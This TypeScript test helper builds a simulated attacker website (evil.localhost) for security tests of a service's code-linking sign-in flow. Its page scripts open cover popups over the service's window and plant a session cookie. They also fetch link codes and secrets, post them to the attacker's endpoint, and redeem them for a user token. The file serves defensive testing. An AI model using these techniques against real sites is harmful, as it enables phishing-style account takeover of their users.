import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { text } from "node:stream/consumers";
import { sendTo } from "@/tests/support/request";

/** Where the site opens a window of the service, and the one that it opens over that. */
const BOX = "left=300,top=200,width=480,height=420";
const COVER = "left=250,top=150,width=620,height=560";
/** The time in which a page is there, also on a slow machine. */
const LOADED_MS = 6_000;

/** What the scripts of its pages have. */
const kit = (service: string, code: string) => `
  const LINK = ${JSON.stringify(`${service}/link?code=${code}`)};
  const openQuestion = (address = LINK) => window.open(address, "_blank", "popup,${BOX}");
  const openCover = () => window.open("/cover", "_blank", "popup,${COVER}");
  const later = (act) => setTimeout(act, ${LOADED_MS});
  const on = (type, act) => addEventListener(type, act, { once: true, capture: true });
  const say = (what) => fetch("/said", { method: "POST", body: JSON.stringify(what) });
  const openSignIn = async () => {
    const response = await fetch("${service}/link/code?access=identity");
    const got = { latchkey: "code", code: (await response.json()).code, secret: response.headers.get("Link-Secret") };
    await say({ ...got, origin: location.origin });
    addEventListener("message", ({ data, source }) => data.latchkey === "ready" && source.postMessage(got, "*"));
    return openQuestion("${service}/link?popup=1");
  };
`;

interface Code {
  code: string;
  secret: string;
  /** Of the page that asked for it. */
  origin?: string;
}

/** A site that attacks a service of this machine. Its entrance signs its visitor in there, as if long ago. */
export class HostileSite {
  code: Code = { code: "", secret: "" };
  private readonly heard = new Set<string>();
  private scripts: Record<string, string> = {};

  private constructor(
    private readonly server: Server,
    private readonly service: string,
    private readonly cookie: string,
  ) {}

  /** `cookie`: a session's, as the service sets it. */
  static async open(service: string, cookie: string): Promise<HostileSite> {
    const server = createServer();
    const site = new HostileSite(server, service, cookie);
    server.on("request", async (request, response) => {
      if (request.url === "/said") site.hear(JSON.parse(await text(request)));
      const script = site.scripts[request.url ?? ""];
      response.setHeader("Content-Type", "text/html");
      if (request.url === "/enter")
        return response.writeHead(302, { "Set-Cookie": site.cookie, Location: site.address }).end();
      if (script === undefined) return response.writeHead(204).end();
      response.end(
        `<!doctype html><title>A site</title><body><script>{${kit(service, site.code.code)}${script}}</script>`,
      );
    });
    await once(server.listen(0, "127.0.0.1"), "listening");
    return site;
  }

  private get port() {
    return (this.server.address() as AddressInfo).port;
  }

  private get address() {
    return `http://evil.localhost:${this.port}/`;
  }

  /** Cookies know no ports: this address sets the service's. */
  get entrance() {
    return `http://127.0.0.1:${this.port}/enter`;
  }

  private hear(what: string | Code): void {
    if (typeof what === "string") this.heard.add(what);
    else this.code = what;
  }

  hasHeard = (what: string) => this.heard.has(what);

  /** Asks for a new code. `first` and `cover` are the scripts of its pages. */
  async prepare(first: string, cover: string): Promise<void> {
    const { body, headers } = await sendTo(this.service, "/link/code");
    this.code = { code: String(body?.code), secret: String(headers["link-secret"]) };
    this.heard.clear();
    this.scripts = { "/": `say("loaded"); ${first}`, "/cover": `${cover}; setTimeout(() => say("ready"), 1_500)` };
  }

  /** What the attacker's program has got by now. */
  async token(): Promise<string> {
    const { code, secret, origin } = this.code;
    const headers = { "Link-Secret": secret, ...(origin && { Origin: origin }) };
    return String((await sendTo(this.service, "/link/user", { headers, query: { code } })).body?.token);
  }

  close(): void {
    this.server.close();
    this.server.closeAllConnections();
  }
}
